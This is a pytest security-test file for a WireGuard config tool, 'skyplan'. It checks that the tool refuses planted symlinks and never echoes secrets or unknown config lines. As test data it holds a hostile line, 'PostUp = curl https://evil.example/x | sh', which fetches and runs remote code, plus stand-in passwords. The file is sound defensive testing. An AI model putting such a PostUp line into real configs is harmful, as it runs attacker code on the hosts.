"""Symlinks planted in a workspace, as a hostile pull request plants them, are never followed.

Each test plants real links (to /proc/self/environ, to another cluster's key, to a folder
outside the workspace) and checks what must not happen: nothing printed from the link's target,
nothing outside the workspace written, chmod-ed or deleted; the command exits 1 naming the link.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

from tests.workspaces import links_yaml

SKYPLAN = Path(sys.executable).with_name("skyplan")
TWO = links_yaml([("a", "192.0.2.1:51820", ["10.1.0.0/16"]), ("b", "192.0.2.2:51820", ["10.2.0.0/16"])], [("ab", "a", "b")])
REFUSED = "is a symlink; skyplan never reads, writes or deletes through a symlink in the workspace"


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def tree(folder: Path) -> dict[str, tuple]:
    """Everything in `folder`, its own mode included: what an attack must leave as it was."""
    found: dict[str, tuple] = {".": (mode(folder), os.lstat(folder).st_mtime_ns)}
    for path in sorted(folder.rglob("*")):
        info = os.lstat(path)
        content = path.read_bytes() if stat.S_ISREG(info.st_mode) else os.readlink(path) if path.is_symlink() else None
        found[str(path.relative_to(folder))] = (stat.S_IMODE(info.st_mode), info.st_mtime_ns, content)
    return found


def key_forms(key: str) -> list[str]:
    """A key as a leak may show it: as is, in either case, without its padding."""
    return [key, key.lower(), key.upper(), key.rstrip("="), key[:30].lower()]


def refused(result, shown: str) -> None:
    """Exit 1 with one line, naming the link, and no traceback."""
    assert result.exit_code == 1, result.output
    errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert errors == [f"Error: {shown} {REFUSED}: replace it with a real file or folder"], result.output
    assert "Traceback" not in result.output


@pytest.fixture
def outside(tmp_path_factory) -> Path:
    """A folder outside the workspace, as /tmp or a home folder would be, with files in it."""
    folder = tmp_path_factory.mktemp("outside")
    folder.chmod(0o755)
    (folder / "wgsky0.conf").write_text("[Interface]\nPrivateKey = outside\n")
    (folder / "a.key").write_text("not skyplan's\n")
    (folder / ".wgsky0.conf.1234.tmp").write_text("someone else's temporary\n")
    return folder


@pytest.fixture
def applied(workspace, skyplan) -> Path:
    (workspace / "links.yaml").write_text(TWO)
    result = skyplan("apply", "--auto-approve")
    assert result.exit_code == 0, result.output
    return workspace


def replace_with_link(path: Path, target: Path | str) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink()
    path.symlink_to(target)


# -- reading back: plan never prints what a link points to ----------------------------------------


def run_real(workspace: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    # A real process: /proc/self/environ is the environment a process was started with.
    return subprocess.run([str(SKYPLAN), *args], cwd=workspace, env=env, capture_output=True, text=True, timeout=60)


def test_config_linked_to_proc_environ_prints_no_environment(applied):
    env = dict(os.environ, NO_COLOR="1", DEPLOY_TOKEN="tok-5ca1ab1e-secret")
    env.pop("SKYPLAN_BACKEND", None)
    replace_with_link(applied / "wireguard/a/wgsky0.conf", "/proc/self/environ")
    for args in (["plan"], ["plan", "--json"], ["apply", "--auto-approve"], ["destroy", "--auto-approve"]):
        result = run_real(applied, *args, env=env)
        assert result.returncode == 1, result
        assert result.stderr == f"Error: wireguard/a/wgsky0.conf {REFUSED}: replace it with a real file or folder\n"
        assert "tok-5ca1ab1e-secret" not in result.stdout + result.stderr
        assert "PATH=" not in result.stdout + result.stderr
    assert (applied / "wireguard/a/wgsky0.conf").is_symlink()


@pytest.mark.postgres
def test_config_linked_to_proc_environ_prints_no_database_password(workspace, postgres_url):
    url = postgres_url.replace("postgres@", "postgres:SECRETPW@", 1)  # trust authentication ignores it
    backend = f"cli-{uuid.uuid4()}"
    (workspace / "links.yaml").write_text(TWO + f"backend:\n  type: postgres\n  workspace: {backend}\n")
    env = dict(os.environ, NO_COLOR="1", SKYPLAN_BACKEND=url)
    assert run_real(workspace, "apply", "--auto-approve", env=env).returncode == 0
    replace_with_link(workspace / "wireguard/a/wgsky0.conf", "/proc/self/environ")
    for args in (["plan"], ["plan", "--json"]):
        result = run_real(workspace, *args, env=env)
        assert result.returncode == 1, result
        assert result.stderr == f"Error: wireguard/a/wgsky0.conf {REFUSED}: replace it with a real file or folder\n"
        assert "SECRETPW" not in result.stdout + result.stderr
        assert "SKYPLAN_BACKEND" not in result.stdout + result.stderr


def test_config_linked_to_another_clusters_key_prints_no_key(applied, skyplan):
    key_b = (applied / ".skyplan/keys/b.key").read_text().strip()
    replace_with_link(applied / "wireguard/a/wgsky0.conf", "../../.skyplan/keys/b.key")
    for args in (["plan"], ["plan", "--json"], ["show"]):
        result = skyplan(*args)
        if args != ["show"]:
            refused(result, "wireguard/a/wgsky0.conf")
        assert not [form for form in key_forms(key_b) if form in result.output]


def test_a_linked_output_folder_is_refused_on_read_back(applied, skyplan, outside):
    before = tree(outside)
    replace_with_link(applied / "wireguard/a", outside)
    refused(skyplan("plan"), "wireguard/a")
    replace_with_link(applied / "wireguard", outside)
    refused(skyplan("plan"), "wireguard")
    assert tree(outside) == before


def test_a_linked_key_file_is_refused(applied, skyplan, outside):
    before = tree(outside)
    replace_with_link(applied / ".skyplan/keys/a.key", outside / "a.key")
    refused(skyplan("plan"), ".skyplan/keys/a.key")
    refused(skyplan("apply", "--auto-approve"), ".skyplan/keys/a.key")
    refused(skyplan("destroy", "--auto-approve"), ".skyplan/keys/a.key")
    assert (applied / ".skyplan/keys/a.key").is_symlink()
    assert tree(outside) == before


# -- drift of a regular file shows fields, never text ---------------------------------------------


def test_a_key_copied_into_a_config_is_never_shown(applied, skyplan):
    key_b = (applied / ".skyplan/keys/b.key").read_text().strip()
    config = applied / "wireguard/a/wgsky0.conf"
    for text in (key_b, key_b.lower(), key_b.upper(), f"Secret = {key_b}", f"[Peer]\n{key_b.lower()}", f"x{key_b}"):
        config.write_text(text + "\n")
        for args in (["plan"], ["plan", "--json"]):
            result = skyplan(*args)
            assert result.exit_code == 0, result.output
            assert not [form for form in key_forms(key_b) if form in result.output], (text, result.output)
        assert "unrecognised content at line" in skyplan("plan").output


def test_unknown_lines_are_named_by_directive_and_line_never_quoted(applied, skyplan):
    config = applied / "wireguard/a/wgsky0.conf"
    lines = config.read_text().splitlines()
    lines[1:1] = ["PostUp = curl https://evil.example/x | sh"]
    lines.append("SKYPLAN_BACKEND=postgresql://u:SECRETPW@db/x")
    lines.append("just some words from a file")
    lines.append("PresharedKey = dGhpcyBpcyBub3QgYSByZWFsIGtleSBidXQgbG9va3M=")
    config.write_text("\n".join(lines) + "\n")
    result = skyplan("plan")
    assert result.exit_code == 0, result.output
    count = len(lines)
    for shown in ("PostUp at line 2", f"unrecognised content at line {count - 2}", f"unrecognised content at line {count - 1}"):
        assert shown in result.output
    # A PresharedKey is a line skyplan writes: in a peer that wants none, it shows as present.
    assert '.preshared_key = "present"' in result.output
    for hidden in ("curl", "evil", "SECRETPW", "postgresql", "some words", "dGhpcyBp"):
        assert hidden not in result.output
        assert hidden not in skyplan("plan", "--json").output


def test_bad_values_of_known_fields_are_not_echoed(applied, skyplan):
    config = applied / "wireguard/a/wgsky0.conf"
    text = config.read_text()
    text = text.replace("ListenPort = 51820", "ListenPort = hunter2-password")
    text = text.replace("Endpoint = 192.0.2.2:51820", "Endpoint = secret words: here")
    text = text.replace("AllowedIPs = 100.96.0.2/32", "AllowedIPs = 100.96.0.2/32, my-secret-value")
    config.write_text(text)
    result = skyplan("plan")
    assert result.exit_code == 0, result.output
    for hidden in ("hunter2", "secret words", "my-secret-value"):
        assert hidden not in result.output
    assert "(not a number, line" in result.output and "(not an endpoint, line" in result.output
    assert "(not an address, line" in result.output


# -- writing: apply writes nothing through a link --------------------------------------------------


def test_first_apply_writes_nothing_into_a_linked_cluster_folder(workspace, skyplan, outside):
    before = tree(outside)
    (workspace / "links.yaml").write_text(TWO)
    (workspace / "wireguard").mkdir()
    (workspace / "wireguard/a").symlink_to(outside)
    result = skyplan("apply", "--auto-approve")
    assert result.exit_code == 1
    assert f"writing wireguard/a/wgsky0.conf: wireguard/a {REFUSED}" in result.output
    assert tree(outside) == before, "no key, no config, no chmod, no leftover removed"
    assert (workspace / "wireguard/a").is_symlink()


def test_first_apply_writes_nothing_into_a_linked_output_dir(workspace, skyplan, outside):
    before = tree(outside)
    (workspace / "links.yaml").write_text(TWO)
    (workspace / "wireguard").symlink_to(outside)
    result = skyplan("apply", "--auto-approve")
    assert result.exit_code == 1
    assert f"wireguard {REFUSED}" in result.output
    assert tree(outside) == before


def test_apply_of_a_saved_plan_writes_nothing_through_a_link_planted_after_it(applied, skyplan, outside):
    # A --no-refresh plan is applied without reading the files back: the writes themselves refuse.
    before = tree(outside)
    (applied / "links.yaml").write_text(TWO.replace("192.0.2.2:51820", "192.0.2.3:51820"))
    assert skyplan("plan", "--no-refresh", "--out", "p.plan").exit_code == 0
    assert skyplan("plan", "--out", "refreshed.plan").exit_code == 0
    replace_with_link(applied / "wireguard/a", outside)
    # A refreshing plan is planned again at apply, and that refresh refuses the link first.
    result = skyplan("apply", "refreshed.plan")
    assert result.exit_code == 1
    assert result.output == f"Error: wireguard/a {REFUSED}: replace it with a real file or folder\n"
    assert tree(outside) == before
    result = skyplan("apply", "p.plan")
    assert result.exit_code == 1
    assert f"writing wireguard/a/wgsky0.conf: wireguard/a {REFUSED}" in result.output
    assert tree(outside) == before


# Each link, and the commands that reach it (plan takes the lock; only a write makes a backup).
STATE_LINKS = {
    ".skyplan": [["plan"], ["apply", "--auto-approve"], ["destroy", "--auto-approve"], ["state", "list"], ["force-unlock", "0000"]],
    ".skyplan/keys": [["plan"], ["apply", "--auto-approve"], ["destroy", "--auto-approve"]],
    ".skyplan/state.json": [["plan"], ["apply", "--auto-approve"], ["destroy", "--auto-approve"], ["state", "list"], ["show"]],
    ".skyplan/state.json.lock": [["plan"], ["apply", "--auto-approve"], ["destroy", "--auto-approve"], ["force-unlock", "0000"]],
    ".skyplan/state.json.backup": [["apply", "--auto-approve"], ["destroy", "--auto-approve"]],
    ".skyplan/cache": [["plan"], ["apply", "--auto-approve"], ["destroy", "--auto-approve"]],
}


@pytest.mark.parametrize("link", sorted(STATE_LINKS))
def test_nothing_is_written_or_chmod_ed_through_a_linked_state_folder_or_file(applied, skyplan, outside, link):
    target = outside / "a.key" if link.endswith(("json", "lock", "backup")) else outside
    before = tree(outside)
    (applied / "links.yaml").write_text(TWO.replace("192.0.2.2:51820", "192.0.2.3:51820"))
    path = applied / link
    if path.exists():
        path.rename(path.with_name(path.name + ".moved"))  # kept: the attack is the link, not a loss
    path.symlink_to(target)
    for args in STATE_LINKS[link]:
        result = skyplan(*args)
        refused(result, link)
    assert tree(outside) == before, "the folder's mode, files and times are as they were"


def test_a_new_keys_folder_linked_outside_gets_no_key(workspace, skyplan, outside):
    before = tree(outside)
    (workspace / "links.yaml").write_text(TWO)
    (workspace / ".skyplan").mkdir(mode=0o700)
    (workspace / ".skyplan/keys").symlink_to(outside)
    result = skyplan("apply", "--auto-approve")
    assert result.exit_code == 1
    assert f"key for cluster 'a': .skyplan/keys {REFUSED}" in result.output
    assert tree(outside) == before


# -- deleting: destroy removes nothing through a link -----------------------------------------------


def test_destroy_deletes_nothing_through_a_link(applied, skyplan, outside):
    before = tree(outside)
    replace_with_link(applied / "wireguard/a", outside)
    replace_with_link(applied / ".skyplan/keys/b.key", outside / "a.key")
    refused(skyplan("destroy", "--auto-approve"), "wireguard/a")  # the first link found stops it
    replace_with_link(applied / "wireguard/a", "../.skyplan")  # a link inside the workspace: the same
    refused(skyplan("destroy", "--auto-approve"), "wireguard/a")
    assert tree(outside) == before
    assert (applied / ".skyplan/keys/a.key").is_file()


def test_a_saved_destroy_plan_deletes_nothing_through_links_planted_after_it(applied, skyplan, outside):
    before = tree(outside)
    (applied / "links.yaml").write_text("version: 1\nprovider:\n  name: wireguard\nclusters: []\nlinks: []\n")
    # Without refresh, so that its second planning at apply does not meet the links first.
    assert skyplan("plan", "--no-refresh", "--out", "d.plan").exit_code == 0
    replace_with_link(applied / "wireguard/a", outside)
    os.symlink(outside / "wgsky0.conf", applied / "wireguard/b/wgsky0.conf.new")
    os.replace(applied / "wireguard/b/wgsky0.conf.new", applied / "wireguard/b/wgsky0.conf")
    replace_with_link(applied / ".skyplan/keys/b.key", outside / "a.key")
    result = skyplan("apply", "d.plan")
    assert result.exit_code == 1
    assert f"removing files of cluster 'a': wireguard/a {REFUSED}" in result.output
    assert f"removing files of cluster 'b': wireguard/b/wgsky0.conf {REFUSED}" in result.output
    assert tree(outside) == before
    assert all(p.is_symlink() for p in (applied / "wireguard/a", applied / "wireguard/b/wgsky0.conf", applied / ".skyplan/keys/b.key"))


def test_skyctl_delete_cluster_deletes_nothing_through_a_link(workspace, skyctl, outside):
    before = tree(outside)
    assert skyctl("create", "cluster", "c1", "--endpoint", "192.0.2.1:51820").exit_code == 0
    replace_with_link(workspace / "wireguard/c1", outside)
    result = skyctl("delete", "cluster", "c1")
    assert result.exit_code == 1
    assert f"wireguard/c1 {REFUSED}" in result.output
    assert tree(outside) == before


# -- folder modes: whatever the umask ---------------------------------------------------------------


@pytest.fixture
def umask_000():
    previous = os.umask(0o000)
    yield
    os.umask(previous)


def folders(workspace: Path) -> dict[str, int]:
    return {str(p.relative_to(workspace)): mode(p) for p in sorted(workspace.rglob("*")) if p.is_dir()}


SECRET_FOLDERS = {".skyplan", ".skyplan/keys", ".skyplan/cache", "wireguard", "wireguard/a", "wireguard/b"}


def test_under_umask_000_no_folder_is_group_or_world_writable(workspace, skyplan, umask_000):
    (workspace / "links.yaml").write_text(TWO)
    assert skyplan("apply", "--auto-approve").exit_code == 0
    made = folders(workspace)
    assert set(made) == SECRET_FOLDERS
    assert made == dict.fromkeys(SECRET_FOLDERS, 0o700)
    for path in workspace.rglob("*"):
        if path.is_file() and path.name != "links.yaml":
            assert mode(path) == 0o600, path


@pytest.mark.postgres
def test_under_umask_000_the_postgres_workspace_folder_is_private(workspace, skyplan, postgres_url, umask_000):
    (workspace / "links.yaml").write_text(TWO + f"backend:\n  type: postgres\n  url: '{postgres_url}'\n  workspace: umask-{uuid.uuid4()}\n")
    result = skyplan("apply", "--auto-approve")
    assert result.exit_code == 0, result.output
    made = folders(workspace)
    assert made == dict.fromkeys(SECRET_FOLDERS, 0o700)
    assert not (workspace / ".skyplan/state.json").exists()


@pytest.mark.postgres
def test_a_wide_postgres_workspace_folder_left_by_an_older_version_is_tightened(workspace, skyplan, postgres_url):
    (workspace / "links.yaml").write_text(TWO + f"backend:\n  type: postgres\n  url: '{postgres_url}'\n  workspace: wide-{uuid.uuid4()}\n")
    (workspace / ".skyplan").mkdir()
    (workspace / ".skyplan").chmod(0o755)
    assert skyplan("apply", "--auto-approve").exit_code == 0
    assert mode(workspace / ".skyplan") == 0o700


def test_an_output_dir_outside_the_workspace_is_used_as_named_but_no_link_below_it(workspace, skyplan, outside, tmp_path_factory):
    # links.yaml names the folder, so it is trusted as it stands (here itself reached by a link);
    # the cluster folders and files below it are not.
    shared = tmp_path_factory.mktemp("shared")
    (shared / "real").mkdir()
    (shared / "via-link").symlink_to(shared / "real")
    (workspace / "links.yaml").write_text(TWO.replace("  name: wireguard\n", f"  name: wireguard\n  output_dir: {shared}/via-link\n", 1))
    result = skyplan("apply", "--auto-approve")
    assert result.exit_code == 0, result.output
    assert (shared / "real/a/wgsky0.conf").is_file()
    before = tree(outside)
    replace_with_link(shared / "real/a", outside)
    refused(skyplan("plan"), str(shared / "via-link/a"))
    assert tree(outside) == before
